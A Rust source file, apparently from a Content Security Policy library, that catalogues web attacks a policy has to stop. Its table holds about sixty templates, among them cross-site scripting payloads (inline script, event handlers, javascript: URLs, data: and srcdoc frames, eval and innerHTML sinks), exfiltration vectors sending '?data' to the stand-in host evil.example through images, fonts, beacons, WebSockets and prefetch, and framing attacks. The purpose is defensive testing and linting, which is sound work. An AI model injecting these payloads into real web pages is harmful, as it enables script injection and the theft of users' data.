//! Table: the markup and the scripts of attacks that policies stop, one row each. Lints and promises show the same text.
//!
//! What a policy has to allow for each of them is in `promise::attacks`, under the feature `promise`.

/// The text of an attack. `{url}` is a URL that the attacker chooses, `{page}` the page that is attacked.
///
/// ```
/// use security_policy_core::csp::attack::{EVIL, IMAGE};
///
/// assert_eq!(IMAGE.with("https://evil.example/"), r#"<img src="https://evil.example/?data">"#);
/// assert_eq!(IMAGE.of_attacker(), IMAGE.with(EVIL));
/// ```
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub struct Template {
    /// The name of the attack.
    pub name: &'static str,
    /// The text, with its placeholders.
    pub text: &'static str,
}

/// A URL of the attacker.
pub const EVIL: &str = "https://evil.example/";

impl Template {
    const fn new(name: &'static str, text: &'static str) -> Self {
        Template { name, text }
    }

    /// Whether the attacker chooses a URL.
    pub fn has_url(self) -> bool {
        self.text.contains(URL)
    }

    /// The attack with this URL.
    pub fn with(self, url: &str) -> String {
        self.fill(URL, url)
    }

    /// The attack with a URL of the attacker.
    pub fn of_attacker(self) -> String {
        self.with(EVIL)
    }

    /// The text with something instead of a placeholder.
    pub fn fill(self, placeholder: &str, value: &str) -> String {
        self.text.replace(placeholder, value)
    }
}

/// Where the URL of the attacker is.
pub const URL: &str = "{url}";

/// Where the address of the attacked page is.
pub const PAGE: &str = "{page}";

/// Where the nonce is that is the same in every response.
pub const NONCE: &str = "{nonce}";

macro_rules! templates {
    ($($name:ident $key:literal $text:literal;)*) => {
        $(#[doc = concat!("`", $text, "`")] pub const $name: Template = Template::new($key, $text);)*

        /// Every template, in the order of the documentation.
        pub const TEMPLATES: &[Template] = &[$($name),*];
    };
}

templates! {
    SCRIPT_OF_ATTACKER "script_of_attacker" r#"<script src="{url}"></script>"#;
    SCRIPT_OF_LISTED_HOST "script_of_listed_host" r#"<script src="{url}"></script>"#;
    SCRIPT_OF_SITE "script_of_site" r#"<script src="{url}"></script>"#;
    SCRIPT_DATA "script_data" r#"<script src="{url}"></script>"#;
    SCRIPT_BLOB "script_blob" r#"<script src="{url}"></script>"#;
    SVG_SCRIPT "svg_script" r#"<svg><script href="{url}"></script></svg>"#;
    INLINE_SCRIPT "inline_script" "<script>alert(1)</script>";
    EVENT_HANDLER "event_handler" r#"<svg onload="alert(1)">"#;
    JAVASCRIPT_LINK "javascript_link" r#"<a href="javascript:alert(1)">x</a>"#;
    SVG_ANIMATE "svg_animate" r#"<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>"#;
    SVG_SET "svg_set" r#"<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a></svg>"#;
    JAVASCRIPT_FRAME "javascript_frame" r#"<iframe src="javascript:alert(1)"></iframe>"#;
    JAVASCRIPT_FORM "javascript_form" r#"<form action="javascript:alert(1)"><button>x</button></form>"#;
    SRCDOC_FRAME "srcdoc_frame" r#"<iframe srcdoc="<script>alert(1)</script>"></iframe>"#;
    DATA_FRAME "data_frame" r#"<iframe src="data:text/html,<script>alert(1)</script>"></iframe>"#;
    DATA_OBJECT "data_object" r#"<object data="data:text/html,<script>alert(1)</script>"></object>"#;
    DATA_EMBED "data_embed" r#"<embed src="data:text/html,<script>alert(1)</script>">"#;
    LISTED_HANDLER "listed_handler" r#"<svg onload="…">"#;
    LISTED_JAVASCRIPT_URL "listed_javascript_url" r#"<iframe src="javascript:…"></iframe>"#;
    STATIC_NONCE "static_nonce" r#"<script nonce="{nonce}">alert(1)</script>"#;
    STATIC_NONCE_URL "static_nonce_url" r#"<script nonce="{nonce}" src="{url}"></script>"#;
    BASE_SCRIPT "base_script" r#"<base href="{url}">"#;
    MODULEPRELOAD "modulepreload" r#"<link rel="modulepreload" href="{url}"><script type="module" src="{url}"></script>"#;
    MODULE_REUSE "module_reuse" r#"<script type="module" src="app.js"></script>"#;
    IMPORT "import" r#"import("{url}")"#;
    WORKER "worker" r#"new Worker("{url}")"#;
    EVAL_SINK "eval_sink" r#"eval("alert(1)")"#;
    HTML_SINK "html_sink" r#"document.body.innerHTML = "<img src=x onerror=alert(1)>""#;
    STYLESHEET "stylesheet" r#"<link rel="stylesheet" href="{url}">"#;
    STYLE_ELEMENT "style_element" "<style>*{color:red}</style>";
    STYLE_ATTRIBUTE "style_attribute" r#"<p style="color:red">x</p>"#;
    STYLE_IMPORT "style_import" r#"<style>@import "{url}"</style>"#;
    LISTED_STYLE_ATTRIBUTE "listed_style_attribute" r#"<p style="…">x</p>"#;
    STATIC_NONCE_STYLE "static_nonce_style" r#"<style nonce="{nonce}">*{color:red}</style>"#;
    STATIC_NONCE_STYLESHEET "static_nonce_stylesheet" r#"<link rel="stylesheet" nonce="{nonce}" href="{url}">"#;
    BASE_STYLE "base_style" r#"<base href="{url}">"#;
    IMAGE "image" r#"<img src="{url}?data">"#;
    CSS_URL "css_url" r#"<style>*{background:url("{url}?data")}</style>"#;
    CSS_URL_ATTRIBUTE "css_url_attribute" r#"<p style="background:url({url}?data)">x</p>"#;
    CSS_FONT "css_font" r#"<style>@font-face{font-family:x;src:url("{url}?data")}*{font-family:x}</style>"#;
    FONT "font" r#"new FontFace("x", 'url("{url}?data")').load()"#;
    VIDEO "video" r#"<video src="{url}?data"></video>"#;
    AUDIO "audio" r#"<audio src="{url}?data"></audio>"#;
    TRACK "track" r#"<video crossorigin><track default src="{url}?data"></video>"#;
    PING "ping" r##"<a href="#" ping="{url}?data">x</a>"##;
    BEACON "beacon" r#"navigator.sendBeacon("{url}", "data")"#;
    WEBSOCKET "websocket" r#"new WebSocket("{url}?data")"#;
    PREFETCH "prefetch" r#"<link rel="prefetch" href="{url}?data">"#;
    SPECULATION_RULES "speculation_rules" r#"<script type="speculationrules">{"prefetch":[{"urls":["{url}?data"],"eagerness":"immediate"}]}</script>"#;
    MANIFEST "manifest" r#"<link rel="manifest" href="{url}?data">"#;
    FRAME "frame" r#"<iframe src="{url}?data"></iframe>"#;
    FORM "form" r#"<form action="{url}"><button name="data">x</button></form>"#;
    FORMACTION "formaction" r#"<form><button name="data" formaction="{url}">x</button></form>"#;
    OBJECT "object" r#"<object data="{url}"></object>"#;
    EMBED "embed" r#"<embed src="{url}">"#;
    BASE "base" r#"<base href="{url}">"#;
    FRAMED_BY_ATTACKER "framed_by_attacker" r#"<iframe src="{page}"></iframe>"#;
    FRAMED_BY_LISTED "framed_by_listed" r#"<iframe src="{page}"></iframe>"#;
    FRAMED_BY_SITE "framed_by_site" r#"<iframe src="{page}"></iframe>"#;
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn every_template_has_a_name_of_its_own() {
        for (index, template) in TEMPLATES.iter().enumerate() {
            assert!(TEMPLATES[..index].iter().all(|other| other.name != template.name), "{} twice", template.name);
            assert!(!template.text.contains('`'), "{} is shown in backticks", template.name);
        }
    }
}
